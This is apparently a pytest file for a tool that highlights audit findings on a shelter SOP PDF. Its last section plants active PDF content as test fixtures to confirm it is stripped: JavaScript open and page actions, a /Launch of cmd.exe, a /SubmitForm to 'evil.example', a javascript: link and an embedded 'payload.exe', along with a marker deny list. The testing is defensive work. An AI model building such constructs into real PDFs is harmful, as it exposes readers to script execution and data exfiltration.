"""Claims about the highlighted PDF (:mod:`analyzer.report.pdf`), on the audit of the Malaysian sample SOP.

The annotations are read back with pikepdf and pdfplumber only, and one test renders pages with poppler
(``pdftoppm``) to check that the colour lands on the clause's words as a viewer draws them.
"""

from __future__ import annotations

import dataclasses
import hashlib
import re
import shutil
import subprocess
from collections import Counter
from pathlib import Path

import pdfplumber
import pikepdf
import pytest

from analyzer.classify.classifier import Classifier
from analyzer.corpus.dataset import default_corpus_dir
from analyzer.errors import InputError
from analyzer.pipeline import audit_document
from analyzer.report.pdf import (
    AUTHOR,
    OPACITY,
    REVIEW_OPACITY,
    STANCE_COLOURS,
    annotation_name,
    highlight_counts,
    highlight_pdf,
)
from analyzer.taxonomy import load_taxonomy
from analyzer.types import AuditResult

SAMPLE = default_corpus_dir() / "documents" / "my-shelter-sop.pdf"


@pytest.fixture(scope="module")
def result() -> AuditResult:
    return audit_document(SAMPLE, country="MY", classifier=Classifier.load())


@pytest.fixture(scope="module")
def highlighted(result, tmp_path_factory) -> Path:
    return highlight_pdf(result, SAMPLE, tmp_path_factory.mktemp("highlighted") / "sop.highlighted.pdf")


# --- helpers: what the audit says should be highlighted, and what the PDF holds ------------------------


def expected_triples(result: AuditResult, *, include_review: bool = True) -> set[tuple[str, str, int]]:
    """(clause_id, stance, page) for every finding, on every page where its clause has a line."""
    clauses = {clause.clause_id: clause for clause in result.clauses}
    return {
        (finding.clause_id, finding.stance, box.page)
        for finding in result.findings
        if include_review or not finding.needs_review
        for box in clauses[finding.clause_id].boxes
    }


def our_highlights(path: Path) -> list[tuple[int, dict]]:
    """(page number, annotation as plain values) for each highlight we wrote, read with pikepdf."""
    found = []
    with pikepdf.open(path) as pdf:
        for number, page in enumerate(pdf.pages, start=1):
            for annot in page.obj.get("/Annots", []):
                if annot.get("/Subtype") == pikepdf.Name.Highlight and str(annot.get("/T")) == AUTHOR:
                    found.append(
                        (number, {key: _plain(value) for key, value in annot.items() if key != "/P"})
                    )
    return found


def _plain(value):
    """Arrays as lists, strings and names as ``str``, dictionaries as their key sets, numbers as floats."""
    if isinstance(value, pikepdf.Array):
        return [_plain(item) for item in value]
    if isinstance(value, (pikepdf.String, pikepdf.Name)):
        return str(value)
    if isinstance(value, (pikepdf.Dictionary, pikepdf.Stream)):
        return set(value.keys())
    return float(value)


def triple_of(name: str, result: AuditResult) -> tuple[str, str, int]:
    """The (clause_id, stance, page) that an annotation's /NM was built from."""
    for clause in result.clauses:
        for stance in STANCE_COLOURS:
            for page in clause.pages:
                if annotation_name(clause.clause_id, stance, page) == name:
                    return clause.clause_id, stance, page
    raise AssertionError(f"no clause, stance and page make the annotation name {name!r}")


def words_of(text: str) -> set[str]:
    return {re.sub(r"\W+", "", word.lower()) for word in text.split()} - {""}


def centre_inside(word: dict, x0: float, top: float, x1: float, bottom: float) -> bool:
    x, y = (word["x0"] + word["x1"]) / 2, (word["top"] + word["bottom"]) / 2
    return x0 <= x <= x1 and top <= y <= bottom


def retargeted(result: AuditResult, path: Path) -> AuditResult:
    """The audit, claimed for an edited copy of its PDF whose text layout is unchanged."""
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    return dataclasses.replace(result, document=dataclasses.replace(result.document, doc_id=digest))


# --- one annotation per (clause, stance, page), on its clause --------------------------------------------


def test_one_highlight_per_clause_stance_and_page(result, highlighted):
    names = [annot["/NM"] for _, annot in our_highlights(highlighted)]
    assert len(names) == len(set(names)), "annotation names are not unique"
    assert sorted(names) == sorted(annotation_name(*triple) for triple in expected_triples(result))
    assert len(names) >= 20, "the sample SOP should yield many highlights"


def test_each_highlight_sits_on_a_page_of_its_clause(result, highlighted):
    clauses = {clause.clause_id: clause for clause in result.clauses}
    for page, annot in our_highlights(highlighted):
        clause_id, stance, triple_page = triple_of(annot["/NM"], result)
        assert page == triple_page and page in clauses[clause_id].pages, annot["/NM"]
        assert annot["/Subj"] == stance


def test_each_highlight_covers_words_of_its_clause_and_no_others(result, highlighted):
    clauses = {clause.clause_id: clause for clause in result.clauses}
    with pdfplumber.open(highlighted) as pdf:
        checked = 0
        for page in pdf.pages:
            words = page.extract_words()
            for annot in page.annots:
                if annot["title"] != AUTHOR:
                    continue
                name = annot["data"]["NM"].decode()
                clause_words = words_of(clauses[triple_of(name, result)[0]].text)
                in_rect = [
                    w for w in words if centre_inside(w, *(annot[k] for k in ("x0", "top", "x1", "bottom")))
                ]
                assert words_of(" ".join(w["text"] for w in in_rect)) & clause_words, name
                quads = annot["data"]["QuadPoints"]
                height = page.height
                for i in range(0, len(quads), 8):
                    x0, y1, x1, y0 = quads[i], quads[i + 1], quads[i + 2], quads[i + 5]
                    in_quad = [w for w in words if centre_inside(w, x0, height - y1, x1, height - y0)]
                    assert in_quad, f"{name}: quad {i // 8} covers no word"
                    strangers = words_of(" ".join(w["text"] for w in in_quad)) - clause_words
                    assert not strangers, f"{name}: quad {i // 8} covers words of another clause: {strangers}"
                checked += 1
    assert checked == len(expected_triples(result))


def test_only_confident_findings_are_highlighted_without_review(result, tmp_path):
    out = highlight_pdf(result, SAMPLE, tmp_path / "confident.pdf", include_review=False)
    names = sorted(annot["/NM"] for _, annot in our_highlights(out))
    expected = expected_triples(result, include_review=False)
    assert names == sorted(annotation_name(*triple) for triple in expected)
    assert len(expected) < len(expected_triples(result))


def test_highlight_counts_reads_back_the_stances(result, highlighted):
    expected = Counter(stance for _, stance, _ in expected_triples(result))
    assert highlight_counts(highlighted) == {stance: expected[stance] for stance in STANCE_COLOURS}


# --- what each annotation carries -----------------------------------------------------------------------


def test_note_holds_principle_names_rationale_and_better_wording(result, highlighted):
    taxonomy = load_taxonomy()
    for _, annot in our_highlights(highlighted):
        clause_id, stance, _ = triple_of(annot["/NM"], result)
        note = " ".join(annot["/Contents"].split())
        for finding in result.findings:
            if finding.clause_id != clause_id or finding.stance != stance:
                continue
            principle = taxonomy.get(finding.principle)
            assert principle.name in note
            assert " ".join(finding.rationale.split()) in note
            assert f"confidence {finding.confidence:.2f}" in note
            if stance == "HARMFUL":
                assert "Better wording: " + " ".join(principle.recommended_wording.split()) in note
        assert stance in note
        if stance != "HARMFUL":
            assert "Better wording" not in note


def test_annotation_is_a_printable_highlight_coloured_by_stance(highlighted):
    for _, annot in our_highlights(highlighted):
        assert annot["/Type"] == "/Annot" and annot["/F"] == 4
        assert annot["/T"] == AUTHOR
        assert annot["/Subj"] in STANCE_COLOURS
        red, green, blue = annot["/C"]
        base = STANCE_COLOURS[annot["/Subj"]]
        assert all(c >= b - 1e-6 for c, b in zip((red, green, blue), base, strict=True))
        quads, (x0, y0, x1, y1) = annot["/QuadPoints"], annot["/Rect"]
        assert quads and len(quads) % 8 == 0
        assert all(x0 <= x <= x1 for x in quads[0::2]) and all(y0 <= y <= y1 for y in quads[1::2])
        assert "/N" in annot["/AP"]


def test_uncertain_highlights_are_lighter_and_say_so(result, highlighted):
    uncertain = {
        (clause_id, stance)
        for clause_id, stance, _ in expected_triples(result)
        if all(f.needs_review for f in result.findings if f.clause_id == clause_id and f.stance == stance)
    }
    assert uncertain, "the sample should have uncertain findings"
    for _, annot in our_highlights(highlighted):
        clause_id, stance, _ = triple_of(annot["/NM"], result)
        if (clause_id, stance) in uncertain:
            assert annot["/CA"] == pytest.approx(REVIEW_OPACITY)
            assert annot["/C"] != list(STANCE_COLOURS[stance])
            assert "(needs review)" in annot["/Contents"]
        else:
            assert annot["/CA"] == pytest.approx(OPACITY)
            assert annot["/C"] == pytest.approx(list(STANCE_COLOURS[stance]))


# --- the file itself --------------------------------------------------------------------------------------


def test_output_passes_qpdf_checks_and_opens_in_pdfplumber(highlighted):
    with pikepdf.open(highlighted) as pdf:
        assert pdf.check_pdf_syntax() == []
        pages = len(pdf.pages)
    with pdfplumber.open(highlighted) as pdf, pdfplumber.open(SAMPLE) as original:
        assert len(pdf.pages) == pages == len(original.pages)
        assert pdf.pages[1].extract_text() == original.pages[1].extract_text()


def _shift_page_boxes(pdf: pikepdf.Pdf, page: int) -> None:
    """Move the MediaBox origin off (0, 0) by an odd amount and crop the page inside it."""
    pdf.pages[page - 1].obj.MediaBox = pikepdf.Array([17, -7, 612.28, 834.89])
    pdf.pages[page - 1].obj.CropBox = pikepdf.Array([40, 30, 570, 800])


def words_on(path: Path, page: int) -> list[tuple[str, float, float]]:
    with pdfplumber.open(path) as pdf:
        return [
            (w["text"], round(w["x0"], 2), round(w["top"], 2)) for w in pdf.pages[page - 1].extract_words()
        ]


@pytest.mark.skipif(shutil.which("pdftoppm") is None, reason="poppler's pdftoppm is not installed")
@pytest.mark.parametrize("boxes", ["plain MediaBox", "shifted MediaBox and CropBox"])
def test_rendered_highlights_colour_the_lines_of_harmful_clauses(result, tmp_path, boxes):
    """Poppler draws the red where pdfplumber finds the clause's lines; a 7 pt slip would fail this."""
    from PIL import Image

    page, source = 3, SAMPLE
    if boxes != "plain MediaBox":
        with pikepdf.open(SAMPLE) as pdf:
            _shift_page_boxes(pdf, page)
            pdf.save(source := tmp_path / "shifted.pdf")
        assert words_on(source, page) == words_on(SAMPLE, page), "the audit's boxes no longer fit the copy"
    out = highlight_pdf(retargeted(result, source), source, tmp_path / "out.pdf")
    command = [
        "pdftoppm",
        "-cropbox",
        "-r",
        "72",
        "-f",
        str(page),
        "-l",
        str(page),
        "-png",
        out,
        tmp_path / "p",
    ]
    subprocess.run(command, check=True)
    image = Image.open(next(tmp_path.glob("p-*.png"))).convert("RGB")
    with pikepdf.open(out) as pdf:
        media, crop = pdf.pages[page - 1].mediabox, pdf.pages[page - 1].cropbox
        height, left_edge, top_edge = float(media[3] - media[1]), float(crop[0]), float(crop[3])

    def red_share(box) -> float:
        """The share of the line's pixels (at 72 dpi, 1 px = 1 pt, origin at the CropBox's top-left) in red."""
        left, upper = box.x0 - left_edge, top_edge - (height - box.top)
        right, lower = left + box.x1 - box.x0, upper + box.bottom - box.top
        data = image.crop((round(left), round(upper), round(right), round(lower))).tobytes()
        pixels = list(zip(data[0::3], data[1::3], data[2::3], strict=True))
        return sum(r > g + 60 and r > b + 60 for r, g, b in pixels) / len(pixels)

    clauses = {clause.clause_id: clause for clause in result.clauses}
    harmful = {f.clause_id for f in result.findings if f.stance == "HARMFUL" and not f.needs_review}
    also_other = {f.clause_id for f in result.findings if f.stance != "HARMFUL"}
    lines = [box for c in sorted(harmful - also_other) for box in clauses[c].boxes if box.page == page]
    assert len(lines) >= 3
    shares = {box.top: round(red_share(box), 2) for box in lines}
    assert min(shares.values()) > 0.7, shares


def test_existing_annotations_of_a_page_are_kept(result, tmp_path):
    source = tmp_path / "annotated.pdf"
    with pikepdf.open(SAMPLE) as pdf:
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[72, 72, 200, 90],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/")),
        )
        note = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Text,
            Rect=[300, 700, 320, 720],
            Contents="Reviewer note",
        )
        pdf.pages[1].obj.Annots = pdf.make_indirect(
            pikepdf.Array([pdf.make_indirect(link), pdf.make_indirect(note)])
        )
        pdf.save(source)
    out = highlight_pdf(retargeted(result, source), source, tmp_path / "out.pdf")
    with pdfplumber.open(out) as pdf:
        annots = pdf.pages[1].annots
    assert [a["uri"] for a in annots if a["data"]["Subtype"].name == "Link"] == ["https://example.org/"]
    assert [a["contents"] for a in annots if a["data"]["Subtype"].name == "Text"] == ["Reviewer note"]
    ours = [a for a in annots if a["title"] == AUTHOR]
    assert len(ours) == sum(1 for _, _, page in expected_triples(result) if page == 2)


def test_rotated_page_is_left_unhighlighted_with_a_warning(result, tmp_path):
    source = tmp_path / "rotated.pdf"
    with pikepdf.open(SAMPLE) as pdf:
        pdf.pages[1].obj.Rotate = 90
        pdf.save(source)
    with pytest.warns(UserWarning, match=r"rotated"):
        out = highlight_pdf(retargeted(result, source), source, tmp_path / "out.pdf")
    pages = Counter(page for page, _ in our_highlights(out))
    assert pages[2] == 0
    assert sum(pages.values()) == sum(1 for _, _, page in expected_triples(result) if page != 2)


def test_the_rotated_page_warning_becomes_a_note_and_other_warnings_pass_on(result, tmp_path, monkeypatch):
    import warnings

    from analyzer.report import pdf as pdf_module

    source = tmp_path / "rotated.pdf"
    with pikepdf.open(SAMPLE) as pdf:
        pdf.pages[1].obj.Rotate = 90
        pdf.save(source)
    original = pdf_module.without_active_content

    def noisy(pdf):
        warnings.warn("a library's own warning", DeprecationWarning, stacklevel=1)
        return original(pdf)

    monkeypatch.setattr(pdf_module, "without_active_content", noisy)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        out, notes = pdf_module.highlight_pdf_noting(retargeted(result, source), source, tmp_path / "out.pdf")
    assert notes == ["pages [2] are rotated; their clauses are not highlighted"] and out.is_file()
    assert [(w.category, str(w.message)) for w in caught] == [(DeprecationWarning, "a library's own warning")]


# --- refusals ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("case", "reason"),
    [
        ("text file", "not a PDF"),
        ("Word document", "not a PDF"),
        ("text named .pdf", "not a PDF"),
        ("missing file", "no such file"),
        ("another PDF", "not the audited document"),
    ],
)
def test_unusable_source_is_refused_with_input_error(result, tmp_path, case, reason):
    documents = default_corpus_dir() / "documents"
    source = {
        "text file": tmp_path / "sop.txt",
        "Word document": documents / "my-shelter-sop.docx",
        "text named .pdf": tmp_path / "fake.pdf",
        "missing file": tmp_path / "missing.pdf",
        "another PDF": documents / "ph-referral-guidelines.pdf",
    }[case]
    if source.parent == tmp_path and case != "missing file":
        source.write_text("Section 1. Residents shall not leave the shelter without permission.\n")
    with pytest.raises(InputError, match=reason) as caught:
        highlight_pdf(result, source, tmp_path / "out.pdf")
    assert caught.value.path == str(source)
    assert not (tmp_path / "out.pdf").exists()


# --- the copy is safe to open: active content of the original is stripped ------------------------------

# keys and names that mean a script, a program, data sent out or an attached file
ACTIVE_MARKERS = {
    "/JS",
    "/JavaScript",
    "/Launch",
    "/SubmitForm",
    "/AA",
    "/EmbeddedFiles",
    "/EF",
    "/XFA",
    "/AF",
}


def _script(pdf: pikepdf.Pdf, code: str = "app.alert('x')") -> pikepdf.Dictionary:
    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code)))


def _annotate(pdf: pikepdf.Pdf, page: int, annotation: pikepdf.Dictionary) -> pikepdf.Dictionary:
    page_obj = pdf.pages[page - 1].obj
    if "/Annots" not in page_obj:
        page_obj.Annots = pdf.make_indirect(pikepdf.Array())
    annotation = pdf.make_indirect(annotation)
    page_obj.Annots.append(annotation)
    return annotation


def _link(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 100, 200, 118], A=action
    )
    _annotate(pdf, 1, link)


def _attached_file(pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
    payload = pikepdf.Stream(pdf, b"MZ not really a program")
    payload.Type = pikepdf.Name.EmbeddedFile
    return pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, F=pikepdf.String("payload.exe"), EF=pikepdf.Dictionary(F=payload)
    )


def _bookmark(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
    outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, Count=1))
    item = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("Start"), Parent=outlines, A=action))
    outlines.First = outlines.Last = item
    pdf.Root.Outlines = outlines


def _form_button(pdf: pikepdf.Pdf) -> None:
    widget = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Widget,
        FT=pikepdf.Name.Btn,
        T=pikepdf.String("go"),
        Rect=[400, 100, 460, 120],
        A=_script(pdf),
        AA=pikepdf.Dictionary(U=_script(pdf), Fo=_script(pdf)),
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([_annotate(pdf, 1, widget)]))


def _xfa_form(pdf: pikepdf.Pdf) -> None:
    xfa = pikepdf.Stream(pdf, b"<xdp:xdp><script contentType='application/x-javascript'>x</script></xdp:xdp>")
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)


def _launch(pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(
        S=pikepdf.Name.Launch,
        F=pikepdf.String("cmd.exe"),
        Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe")),
    )


# what the case is for, and how it puts active content into the original
ACTIVE_CONTENT = [
    ("a script run on opening (/OpenAction)", lambda pdf: setattr(pdf.Root, "OpenAction", _script(pdf))),
    (
        "scripts run on closing and printing (catalog /AA)",
        lambda pdf: setattr(pdf.Root, "AA", pikepdf.Dictionary(WC=_script(pdf), WP=_script(pdf))),
    ),
    (
        "document-level scripts (/Names /JavaScript)",
        lambda pdf: setattr(
            pdf.Root,
            "Names",
            pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("init"), _script(pdf)])),
        ),
    ),
    (
        "an attached program (/Names /EmbeddedFiles)",
        lambda pdf: setattr(
            pdf.Root,
            "Names",
            pikepdf.Dictionary(
                EmbeddedFiles=pikepdf.Dictionary(Names=[pikepdf.String("x"), _attached_file(pdf)])
            ),
        ),
    ),
    ("a scriptable XML form (/AcroForm /XFA)", _xfa_form),
    (
        "a file associated with the document (PDF 2.0 catalog /AF)",
        lambda pdf: setattr(pdf.Root, "AF", pikepdf.Array([pdf.make_indirect(_attached_file(pdf))])),
    ),
    (
        "a file associated with a page (page /AF)",
        lambda pdf: setattr(pdf.pages[0].obj, "AF", pikepdf.Array([pdf.make_indirect(_attached_file(pdf))])),
    ),
    (
        "a link whose parent action runs a script (/PA)",
        lambda pdf: _annotate(
            pdf,
            1,
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 100, 200, 118], PA=_script(pdf)
            ),
        ),
    ),
    (
        "a script run on viewing a page (page /AA)",
        lambda pdf: setattr(pdf.pages[0].obj, "AA", pikepdf.Dictionary(O=_script(pdf))),
    ),
    ("a link running a script", lambda pdf: _link(pdf, _script(pdf))),
    ("a link starting a program (/Launch)", lambda pdf: _link(pdf, _launch(pdf))),
    (
        "a link sending form data (/SubmitForm)",
        lambda pdf: _link(
            pdf, pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
        ),
    ),
    (
        "a javascript: web link",
        lambda pdf: _link(
            pdf, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(" JavaScript:app.alert(1)"))
        ),
    ),
    (
        "a page move chained to a program (/Next)",
        lambda pdf: _link(
            pdf,
            pikepdf.Dictionary(
                S=pikepdf.Name.GoTo, D=[pdf.pages[0].obj, pikepdf.Name.Fit], Next=[_launch(pdf)]
            ),
        ),
    ),
    ("a bookmark running a script", lambda pdf: _bookmark(pdf, _script(pdf))),
    ("a form button with scripts (widget /A and /AA)", _form_button),
    (
        "an attached program on a page (/FileAttachment)",
        lambda pdf: _annotate(
            pdf,
            1,
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.FileAttachment,
                Rect=[10, 10, 20, 20],
                FS=_attached_file(pdf),
            ),
        ),
    ),
]


def active_markers(path: Path) -> set[str]:
    """Every key or name of :data:`ACTIVE_MARKERS`, and ``javascript:`` links, found in any object."""
    found: set[str] = set()
    with pikepdf.open(path) as pdf:
        for obj in pdf.objects:
            pending = [obj.stream_dict if isinstance(obj, pikepdf.Stream) else obj]
            while pending:
                current = pending.pop()
                if isinstance(current, pikepdf.Dictionary):
                    found |= {key for key in current if key in ACTIVE_MARKERS}
                    children = list(current.values())
                elif isinstance(current, pikepdf.Array):
                    children = list(current)
                else:
                    continue
                for child in children:
                    if isinstance(child, pikepdf.Name) and str(child) in ACTIVE_MARKERS:
                        found.add(str(child))
                    elif isinstance(child, pikepdf.String) and "javascript:" in str(child).lower():
                        found.add("javascript:")
                    elif isinstance(child, pikepdf.Dictionary | pikepdf.Array) and not child.is_indirect:
                        pending.append(child)
    return found


def with_harmless_annotations(pdf: pikepdf.Pdf) -> None:
    """A web link and a reviewer's note on page 2: what a safe copy keeps."""
    web = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/"))
    _annotate(
        pdf,
        2,
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 72, 200, 90], A=web),
    )
    _annotate(
        pdf,
        2,
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Text,
            Rect=[300, 700, 320, 720],
            Contents="Reviewer note",
        ),
    )


@pytest.mark.parametrize(("purpose", "plant"), ACTIVE_CONTENT, ids=[purpose for purpose, _ in ACTIVE_CONTENT])
def test_active_content_of_the_original_is_not_in_the_highlighted_copy(result, tmp_path, purpose, plant):
    source = tmp_path / "active.pdf"
    with pikepdf.open(SAMPLE) as pdf:
        with_harmless_annotations(pdf)
        plant(pdf)
        pdf.save(source)
    assert active_markers(source) or purpose.endswith("(/FileAttachment)"), "the case plants nothing"
    out = highlight_pdf(retargeted(result, source), source, tmp_path / "out.pdf")
    assert active_markers(out) == set(), purpose
    with pikepdf.open(out) as pdf:
        assert not isinstance(pdf.Root.get("/OpenAction"), pikepdf.Dictionary)  # the sample's page stays
        subtypes = [str(a.get("/Subtype")) for page in pdf.pages for a in page.obj.get("/Annots", [])]
        assert "/FileAttachment" not in subtypes
    assert len(our_highlights(out)) == len(expected_triples(result))
    with pdfplumber.open(out) as pdf:
        annots = pdf.pages[1].annots
    assert [a["uri"] for a in annots if a["data"]["Subtype"].name == "Link"] == ["https://example.org/"]
    assert [a["contents"] for a in annots if a["data"]["Subtype"].name == "Text"] == ["Reviewer note"]


def test_a_form_button_keeps_its_field_without_its_scripts(result, tmp_path):
    source = tmp_path / "form.pdf"
    with pikepdf.open(SAMPLE) as pdf:
        _form_button(pdf)
        pdf.save(source)
    out = highlight_pdf(retargeted(result, source), source, tmp_path / "out.pdf")
    with pikepdf.open(out) as pdf:
        (field,) = pdf.Root.AcroForm.Fields
        assert str(field.T) == "go" and "/A" not in field and "/AA" not in field
        assert any(annot.objgen == field.objgen for annot in pdf.pages[0].obj.Annots)


def test_opening_at_a_page_and_links_within_the_document_are_kept(result, tmp_path):
    source = tmp_path / "moves.pdf"
    with pikepdf.open(SAMPLE) as pdf:
        pdf.Root.OpenAction = pikepdf.Array([pdf.pages[1].obj, pikepdf.Name.Fit])
        move = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[pdf.pages[2].obj, pikepdf.Name.Fit])
        _link(pdf, move)
        pdf.save(source)
    out = highlight_pdf(retargeted(result, source), source, tmp_path / "out.pdf")
    with pikepdf.open(out) as pdf:
        assert pdf.Root.OpenAction[0].objgen == pdf.pages[1].obj.objgen
        links = [a for a in pdf.pages[0].obj.Annots if a.get("/Subtype") == pikepdf.Name.Link]
        assert [str(link.A.S) for link in links] == ["/GoTo"]


def test_an_action_chain_that_loops_back_is_read_once():
    from analyzer.report.pdf_safety import is_active_action

    pdf = pikepdf.new()
    first = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.NextPage))
    second = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.PrevPage, Next=first))
    first.Next = second
    assert not is_active_action(first)
    second.Next = pikepdf.Array([first, _script(pdf)])
    assert is_active_action(first)


# --- encrypted originals: the password is used only when the PDF needs one ---------------------------


def _encrypted_copy(path: Path, *, user: str, owner: str = "owner") -> Path:
    with pikepdf.open(SAMPLE) as pdf:
        pdf.save(path, encryption=pikepdf.Encryption(user=user, owner=owner))
    return path


@pytest.mark.parametrize(
    "password", [None, "zzz", "owner"], ids=["no password", "any password", "the owner's"]
)
def test_a_pdf_locked_by_an_owner_password_alone_is_highlighted_whatever_password_is_given(
    result, tmp_path, password
):
    source = _encrypted_copy(tmp_path / "owner-only.pdf", user="")
    out = highlight_pdf(retargeted(result, source), source, tmp_path / "out.pdf", password=password)
    assert len(our_highlights(out)) == len(expected_triples(result))


def test_a_pdf_locked_by_a_user_password_needs_the_right_one(result, tmp_path):
    source = _encrypted_copy(tmp_path / "locked.pdf", user="secret")
    audit = retargeted(result, source)
    with pytest.raises(InputError, match="password given for this PDF is wrong"):
        highlight_pdf(audit, source, tmp_path / "wrong.pdf", password="zzz")
    with pytest.raises(InputError, match="give its password"):
        highlight_pdf(audit, source, tmp_path / "none.pdf")
    out = highlight_pdf(audit, source, tmp_path / "out.pdf", password="secret")
    assert len(our_highlights(out)) == len(expected_triples(result))
